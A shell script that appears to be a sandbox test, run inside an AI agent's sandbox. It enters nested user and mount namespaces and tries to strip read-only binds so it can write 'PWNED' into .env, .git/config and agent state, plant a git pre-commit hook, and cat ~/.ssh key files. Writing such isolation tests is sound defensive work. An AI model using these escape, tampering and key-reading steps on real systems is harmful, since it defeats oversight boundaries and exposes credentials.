# Nested user+mount namespace attacks on the sandbox's read-only binds and read masks. Run from the workspace root,
# inside the sandbox. Outer mode enters a fresh namespace five ways and runs the inner mode there; the inner mode says
# "INNER <way> uid=<id>" (proof the namespace was entered) and then tries every way it knows to strip a bind and write
# through, or to reveal $SSH_DIR. The test judges by the host's files, never by what this prints.
D=$(cd "$(dirname "$0")" && pwd)
WS=$(pwd)
if [ "$1" != inner ]; then
  unshare -Urm bash "$D/attack.sh" inner unshare-Urm
  unshare -Ur --mount bash "$D/attack.sh" inner unshare-Ur--mount
  unshare -Urm unshare -Urm bash "$D/attack.sh" inner nested-twice
  perl "$D/ns.pl" bash "$D/attack.sh" inner perl-unshare2
  python3 "$D/ns.py" bash "$D/attack.sh" inner python-unshare2
  exit 0
fi
WAY=$2
echo "INNER $WAY uid=$(id -u) ns=$(readlink /proc/self/ns/mnt)"
FILES=".env .env.local .git/config"
DIRS=".git/hooks .mono-agent"
for t in $FILES $DIRS; do
  umount "$WS/$t"; umount -l "$WS/$t"
  mount -o remount,rw,bind "$WS/$t"; mount -o remount,rw "$WS/$t"
  perl "$D/raw.pl" "$WS/$t"
done
# a copy of the workspace without its binds (non-recursive), and one with them (recursive) whose binds are then removed
M=$(mktemp -d); R=$(mktemp -d)
mount --bind "$WS" "$M"
mount --rbind "$WS" "$R"
for t in $FILES $DIRS; do
  umount "$R/$t"; umount -l "$R/$t"; mount -o remount,rw,bind "$R/$t"; perl "$D/raw.pl" "$R/$t"
done
perl "$D/raw.pl" "$WS" tree
# write through every path that might now lead to the host's file
for base in "$WS" "$M" "$R"; do
  for t in $FILES; do printf 'PWNED\n' >> "$base/$t"; done
  printf '#!/bin/sh\necho PWNED\n' > "$base/.git/hooks/pre-commit"
  printf 'PWNED\n' > "$base/.mono-agent/pwned"
  printf 'PWNED\n' >> "$base/.mono-agent/state.json"
done
# the read mask over the home and ~/.ssh: remove it, or look under it through a copy without it
umount "$SSH_DIR"; umount -l "$SSH_DIR"; umount "$HOME_DIR"; umount -l "$HOME_DIR"
perl "$D/raw.pl" "$SSH_DIR"; perl "$D/raw.pl" "$HOME_DIR"
H=$(mktemp -d); mount --bind / "$H"; mount --bind "$(dirname "$HOME_DIR")" "$H"
cat "$SSH_DIR"/* "$H"/.ssh/* "$H/$(basename "$HOME_DIR")"/.ssh/* "$H$SSH_DIR"/*
echo "DONE $WAY"
